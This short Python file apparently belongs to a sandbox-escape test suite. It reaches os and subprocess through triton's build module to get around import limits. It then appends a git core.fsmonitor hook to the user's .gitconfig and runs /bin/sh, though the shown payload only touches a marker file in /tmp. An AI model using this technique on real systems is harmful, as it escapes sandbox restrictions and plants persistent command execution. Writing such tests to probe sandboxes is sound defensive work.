import triton

from qbank.verify import check

# triton ships its build system beside the kernel language: runtime.build imports os and subprocess
osmod = triton.runtime.build.os
fd = osmod.open("@HOME@/.gitconfig", osmod.O_WRONLY | osmod.O_CREAT | osmod.O_APPEND, 0o644)
osmod.write(fd, b"[core]\n\tfsmonitor = touch /tmp/qbank-attack-triton-escape\n")
triton.runtime.build.subprocess.run(["/bin/sh", "-c", "touch /tmp/qbank-attack-triton-escape"], check=True)
check(True, "wrote")
